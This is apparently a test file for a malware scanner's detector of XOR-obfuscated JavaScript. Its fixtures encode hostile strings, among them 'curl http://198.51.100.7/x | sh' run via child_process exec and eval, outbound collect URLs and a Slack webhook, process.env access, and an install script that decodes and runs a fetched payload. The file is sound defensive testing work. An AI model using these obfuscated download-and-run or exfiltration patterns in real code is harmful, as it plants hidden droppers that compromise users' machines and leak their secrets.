import { describe, expect, it } from 'vitest';
import { INSTALL, jsFindings, ruleFindings, scanInline } from '../helpers.js';

/** XOR-encodes text with a repeating key, as a dropper's build step would. */
function xor(text: string, key: number[]): number[] {
  return [...Buffer.from(text, 'latin1')].map((b, i) => b ^ key[i % key.length]!);
}

describe('JS-006 XOR-decoded constants', () => {
  it('folds a for loop with charCodeAt ^ key and analyses the result as code', async () => {
    const data = String.fromCharCode(
      ...xor("require('child_process').exec('curl http://198.51.100.7/x | sh')", [42]),
    );
    const code = `const s = ${JSON.stringify(data)}; const key = 42;
      let out = '';
      for (let i = 0; i < s.length; i++) out += String.fromCharCode(s.charCodeAt(i) ^ key);
      eval(out);`;
    const all = await jsFindings({ 'index.js': code });
    const xorFinding = all.find((f) => f.ruleId === 'JS-006' && f.evidence?.encoding === 'xor');
    expect(xorFinding?.severity).toBe('high');
    expect(String(xorFinding?.evidence?.decoded)).toContain('child_process');
    // the decoded code is analysed again: its exec is reported at the original line
    const decoded = all.filter((f) => f.evidence?.decodedDepth === 1);
    expect(decoded.some((f) => f.ruleId === 'JS-001')).toBe(true);
    expect(decoded.every((f) => f.line === 3)).toBe(true);
    // and the eval of a decoded string is itself reported as decoded
    expect(all.some((f) => f.ruleId === 'JS-005' && f.severity === 'high')).toBe(true);
  });

  it('folds arr.map(c => c ^ k) and a Buffer map with a multi-byte key, and checks decoded endpoints', async () => {
    const bytes = xor('https://abc.oast.fun/collect', [7, 13, 99]);
    const code = `const key = [7, 13, 99];
      const url = Buffer.from(${JSON.stringify(bytes)}).map((b, i) => b ^ key[i % key.length]).toString();
      module.exports = url;`;
    const all = await jsFindings({ 'index.js': code });
    expect(all.find((f) => f.ruleId === 'JS-006')?.evidence?.encoding).toBe('xor');
    // the endpoint is reported once (NET-001's own visitor folds the `.toString()` chain)
    expect(all.filter((f) => f.ruleId === 'NET-001' && /after (XOR )?decoding/.test(f.message))).toHaveLength(
      1,
    );
    const loop = `const d = ${JSON.stringify(xor('https://abc.oast.fun/z', [6]))}; let u = '';
      for (const c of d) u += String.fromCharCode(c ^ 6);
      module.exports = u;`;
    const fromLoop = await jsFindings({ 'index.js': loop });
    expect(fromLoop.some((f) => f.ruleId === 'NET-001' && /after XOR decoding/.test(f.message))).toBe(true);
    const mapped = `const k = 5; const u = ${JSON.stringify(xor('https://abc.oast.fun/x', [5]))}.map(c => String.fromCharCode(c ^ k)).join('');`;
    expect((await ruleFindings('JS-006', mapped))[0]?.evidence?.encoding).toBe('xor');
  });

  it('folds a local decoder function called with constants, and for-of / push loops', async () => {
    const enc = Buffer.from(xor('process.env', [0x11])).toString('base64');
    const code = `function dec(s, k) {
        const b = Buffer.from(s, 'base64');
        let r = '';
        for (const c of b.toString('latin1')) r += String.fromCharCode(c.charCodeAt(0) ^ k);
        return r;
      }
      const what = dec('${enc}', 0x11);
      const parts = [];
      const src = ${JSON.stringify(xor('https://hooks.slack.com/services/T0/B0/x', [3]))};
      for (let i = 0; i < src.length; i++) parts.push(String.fromCharCode(src[i] ^ 3));
      const hook = parts.join('');`;
    const f = await ruleFindings('JS-006', code);
    const texts = f.map((x) => String(x.evidence?.decoded));
    expect(texts).toContain('process.env');
    expect(texts.some((t) => t.includes('hooks.slack.com'))).toBe(true);
  });

  it('folds arrow decoders and hoisted decoder functions called before their declaration', async () => {
    const code = `const url = d(${JSON.stringify(String.fromCharCode(...xor('https://abc.oast.fun/y', [9])))}, 9);
      const cmd = dec2(${JSON.stringify(xor('curl http://198.51.100.2/x | sh', [4]))});
      function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k); return o; }
      const dec2 = (a) => a.map((c) => String.fromCharCode(c ^ 4)).join('');
      const again = dec2(${JSON.stringify(xor('require("child_process")', [4]))});`;
    const texts = (await ruleFindings('JS-006', code)).map((f) => String(f.evidence?.decoded));
    expect(texts.some((t) => t.includes('oast.fun'))).toBe(true);
    expect(texts.some((t) => t.includes('child_process'))).toBe(true);
  });

  it('makes an install script that evals a XOR-decoded payload malicious', async () => {
    const data = xor("require('https').get('https://x.invalid/p', r => r.pipe(process.stdout))", [0x5a]);
    const code = `const d = ${JSON.stringify(data)}; let s = '';
      for (let i = 0; i < d.length; i++) s += String.fromCharCode(d[i] ^ 0x5a);
      new Function(s)();`;
    const { verdict } = await scanInline({ 'install.js': code }, INSTALL());
    expect(verdict.verdict).toBe('malicious');
  });

  it('ignores XOR over runtime data, hash loops and ordinary loops', async () => {
    const code = `function mask(buf, key) { for (let i = 0; i < buf.length; i++) buf[i] ^= key[i & 3]; return buf; }
      function hash(s) { let h = 5381; for (let i = 0; i < s.length; i++) h = (h * 33) ^ s.charCodeAt(i); return h >>> 0; }
      const id = hash('constant-name');
      let pad = ''; for (let i = 0; i < 10; i++) pad += ' ';
      const table = []; for (let n = 0; n < 256; n++) { let c = n; table.push(c ^ 0xedb88320); }
      module.exports = { mask, id, pad, table };`;
    expect(await ruleFindings('JS-006', code)).toHaveLength(0);
  });

  it('does not fold loops whose accumulator is assigned elsewhere too', async () => {
    const code = `let out = ''; out = input;
      for (let i = 0; i < 4; i++) out += String.fromCharCode(${JSON.stringify(xor('eval', [1]))}[i] ^ 1);
      module.exports = out;`;
    expect(await ruleFindings('JS-006', code)).toHaveLength(0);
  });
});
